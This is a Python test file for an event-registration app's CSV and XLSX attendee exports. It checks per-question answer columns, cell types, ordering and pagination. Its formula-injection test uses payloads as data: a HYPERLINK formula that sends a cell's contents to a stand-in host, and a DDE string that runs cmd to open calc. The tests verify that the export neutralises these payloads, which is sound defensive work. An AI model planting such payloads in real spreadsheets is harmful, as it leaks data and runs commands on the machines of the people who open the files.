"""Answers to the event's questions in attendee exports: one column per question, in form
order, headed by its label, after the chosen columns (CSV and XLSX)."""

import io
import zipfile
from datetime import datetime

import openpyxl
from sqlmodel import Session

from app.exports.columns import DEFAULT_COLUMNS, DEFAULT_SESSION_COLUMNS, answer_columns
from app.exports.query import ExportSpec, stream_answered
from app.questions.service import questions_of
from tests.api.exports.helpers import parse_csv
from tests.api.forms.helpers import ACCESS, ARRIVAL, DIET, GUESTS, NIGHT, NOTES, add_question
from tests.factories import bearer, make_event, make_session, register

SOURCE = {"label": {"pl": "Źródło informacji", "en": "How did you hear of us"}, "type": "text"}
FORM = [
    ("night", {**NIGHT, "required": False}),
    ("diet", DIET),
    ("notes", NOTES),
    ("access", ACCESS),
    ("arrival", ARRIVAL),
    ("guests", GUESTS),
    ("source", SOURCE),
]
LABELS = [
    "Nocleg 29/30 XI",
    "Dieta",
    "Uwagi",
    "Potrzebuję dostępu bez schodów",
    "Data przyjazdu",
    "Liczba osób towarzyszących",
    "Źródło informacji",
]
FORMULA = '=HYPERLINK("http://zło.example/?x="&A1,"Kliknij")'


def export(client, admin, event_id, **params):
    r = client.get(f"/api/v1/events/{event_id}/registrations/export", params=params, headers=admin)
    assert r.status_code == 200, r.text
    return r


def xlsx(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    return (
        sheet,
        header,
        {row[0]: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)},
    )


def form(client, admin):
    """An event with a question of every type, and three people: one answered all, one some, one none."""
    ev = make_event(client, admin)
    q = {name: add_question(client, admin, ev["id"], body) for name, body in FORM}
    room, _ = (o["id"] for o in q["night"]["options"])
    veg, gluten = (o["id"] for o in q["diet"]["options"])
    register(
        client,
        ev["id"],
        1,
        last_name="Żółkiewska",
        answers={
            str(q["night"]["id"]): room,
            str(q["diet"]["id"]): [gluten, veg],
            str(q["notes"]["id"]): "Przyjadę pociągiem;\r\nodbiór z dworca, proszę",
            str(q["access"]["id"]): True,
            str(q["arrival"]["id"]): "2022-11-28",
            str(q["guests"]["id"]): 2,
            str(q["source"]["id"]): "Zażółć gęślą jaźń",
        },
    )
    register(
        client,
        ev["id"],
        2,
        last_name="Ćwik",
        answers={
            str(q["diet"]["id"]): [veg],
            str(q["access"]["id"]): False,
            str(q["guests"]["id"]): 0.5,
            str(q["source"]["id"]): FORMULA,
        },
    )
    register(client, ev["id"], 3, last_name="Nowak")
    return ev, q


def test_csv_has_a_column_per_question_after_the_chosen_ones(client, admin):
    ev, _ = form(client, admin)
    r = export(client, admin, ev["id"], delimiter="semicolon")
    rows = {row["last_name"]: row for row in parse_csv(r.content, delimiter=";")}
    assert list(next(iter(rows.values()))) == [*DEFAULT_COLUMNS, *LABELS]
    assert list(rows) == ["Ćwik", "Nowak", "Żółkiewska"]  # Polish order, as before
    assert [rows["Żółkiewska"][label] for label in LABELS] == [
        "Tak, pokój w hotelu",
        "wegetariańska; bezglutenowa",  # option labels, in the question's order
        "Przyjadę pociągiem;\r\nodbiór z dworca, proszę",  # line break and separator inside one quoted cell
        "yes",
        "2022-11-28",
        "2",
        "Zażółć gęślą jaźń",
    ]
    assert [rows["Ćwik"][label] for label in LABELS] == ["", "wegetariańska", "", "no", "", "0.5", "'" + FORMULA]
    assert [rows["Nowak"][label] for label in LABELS] == [""] * len(LABELS)  # no answers: empty cells
    raw = r.content.decode("utf-8-sig")
    assert '"Przyjadę pociągiem;\r\nodbiór z dworca, proszę"' in raw
    assert ';"=' not in raw and ";=" not in raw  # no cell starts a formula


def test_xlsx_has_typed_cells_per_question(client, admin):
    ev, _ = form(client, admin)
    sheet, header, rows = xlsx(export(client, admin, ev["id"], format="xlsx"))
    assert header == [*DEFAULT_COLUMNS, *LABELS]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}4"
    zolkiewska, cwik, nowak = rows["Żółkiewska"], rows["Ćwik"], rows["Nowak"]
    assert [zolkiewska[label] for label in LABELS] == [
        "Tak, pokój w hotelu",
        "wegetariańska; bezglutenowa",
        "Przyjadę pociągiem;\nodbiór z dworca, proszę",
        True,
        datetime(2022, 11, 28),
        2,
        "Zażółć gęślą jaźń",
    ]
    assert [cwik[label] for label in LABELS] == [None, "wegetariańska", None, False, None, 0.5, FORMULA]
    assert [nowak[label] for label in LABELS] == [None] * len(LABELS)
    notes = sheet.cell(2 + list(rows).index("Żółkiewska"), header.index("Uwagi") + 1)
    assert notes.alignment.wrap_text
    arrival = sheet.cell(2 + list(rows).index("Żółkiewska"), header.index("Data przyjazdu") + 1)
    assert arrival.number_format == "yyyy-mm-dd"


def test_formula_answers_are_neutralised(client, admin):
    ev = make_event(client, admin)
    source = add_question(client, admin, ev["id"], SOURCE)
    notes = add_question(client, admin, ev["id"], NOTES)
    sneaky = add_question(client, admin, ev["id"], {"label": {"pl": "=1+1"}, "type": "text"})
    register(
        client,
        ev["id"],
        1,
        answers={
            str(source["id"]): FORMULA,
            str(notes["id"]): "@SUM(1+1)*cmd|' /C calc'!A0",
            str(sneaky["id"]): "-2+3",
        },
    )
    text = export(client, admin, ev["id"]).content.decode("utf-8-sig")
    header, line = text.split("\r\n")[:2]
    assert header.endswith(",Źródło informacji,Uwagi,'=1+1")
    row = parse_csv(text.encode("utf-8-sig"))[0]
    assert row["Źródło informacji"] == "'" + FORMULA
    assert row["Uwagi"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["'=1+1"] == "'-2+3"
    # XLSX: text cells (never formulas), the text as the person wrote it
    body = export(client, admin, ev["id"], format="xlsx").content
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet, header_cells, rows = xlsx(export(client, admin, ev["id"], format="xlsx"))
    cell = sheet.cell(2, header_cells.index("Źródło informacji") + 1)
    assert cell.data_type == "s" and cell.value == FORMULA
    assert header_cells[-1] == "=1+1" and sheet.cell(1, len(header_cells)).data_type == "s"


def test_event_without_questions_keeps_the_old_columns(client, admin):
    ev = make_event(client, admin)
    register(client, ev["id"], 1, last_name="Żak")
    other = make_event(client, admin, slug="inne-wydarzenie")
    add_question(client, admin, other["id"], SOURCE)  # another event's question is not a column here
    assert list(parse_csv(export(client, admin, ev["id"]).content)[0]) == list(DEFAULT_COLUMNS)
    assert list(parse_csv(export(client, admin, ev["id"], columns="email,last_name").content)[0]) == [
        "email",
        "last_name",
    ]
    _, header, rows = xlsx(export(client, admin, ev["id"], format="xlsx"))
    assert header == list(DEFAULT_COLUMNS) and list(rows) == ["Żak"]


def test_questions_follow_a_chosen_column_list_and_the_session_export(client, admin):
    ev, q = form(client, admin)
    rows = parse_csv(export(client, admin, ev["id"], columns="last_name").content)
    assert list(rows[0]) == ["last_name", *LABELS]
    assert [(r["last_name"], r["Dieta"]) for r in rows] == [
        ("Ćwik", "wegetariańska"),
        ("Nowak", ""),
        ("Żółkiewska", "wegetariańska; bezglutenowa"),
    ]
    session = make_session(client, admin, ev["id"])
    token = register(client, ev["id"], 4, last_name="Łęcka", answers={str(q["guests"]["id"]): 3})["token"]
    assert (
        client.post("/api/v1/me/enrollments", json={"session_id": session["id"]}, headers=bearer(token)).status_code
        == 201
    )
    r = client.get(f"/api/v1/sessions/{session['id']}/attendees/export", headers=admin)
    assert r.status_code == 200, r.text
    [row] = parse_csv(r.content)
    assert list(row) == [*DEFAULT_SESSION_COLUMNS, *LABELS]
    assert (row["last_name"], row["Liczba osób towarzyszących"], row["Dieta"]) == ("Łęcka", "3", "")


def test_labels_in_english_and_duplicate_labels(app, client, admin):
    ev = make_event(client, admin)
    night = add_question(client, admin, ev["id"], {**NIGHT, "required": False})
    notes = add_question(client, admin, ev["id"], NOTES)  # no English label
    again = add_question(client, admin, ev["id"], NOTES)
    email = add_question(client, admin, ev["id"], {"label": {"pl": "email"}, "type": "text"})
    with Session(app.state.engine) as db:
        questions = questions_of(db, event_id=ev["id"])
        en = answer_columns(questions, lang="en", taken=["last_name", "email"])
        pl = answer_columns(questions)
    assert [a.column.title for a in en] == [
        "Night 29/30 Nov",
        "Uwagi",
        f"Uwagi [{again['id']}]",
        f"email [{email['id']}]",
    ]
    assert [a.column.key for a in en] == [f"question_{q['id']}" for q in (night, notes, again, email)]
    assert list(en[0].options.values()) == ["Yes, a hotel room", "No need"]
    assert [a.column.title for a in pl][:2] == ["Nocleg 29/30 XI", "Uwagi"]
    assert list(pl[0].options.values()) == ["Tak, pokój w hotelu", "Nie potrzebuję"]


def test_answers_are_read_page_by_page(app, client, admin):
    """Each keyset page brings the answers of its own people, across page boundaries."""
    ev = make_event(client, admin)
    guests = add_question(client, admin, ev["id"], GUESTS)
    for i in range(1, 8):
        register(client, ev["id"], i, last_name=f"Lis-{i}", answers={str(guests["id"]): i} if i % 3 else {})
    pairs = list(stream_answered(app.state.engine, ExportSpec(event_id=ev["id"]), page_size=2))
    assert [(row.last_name, answers.get(guests["id"])) for row, answers in pairs] == [
        (f"Lis-{i}", i if i % 3 else None) for i in range(1, 8)
    ]
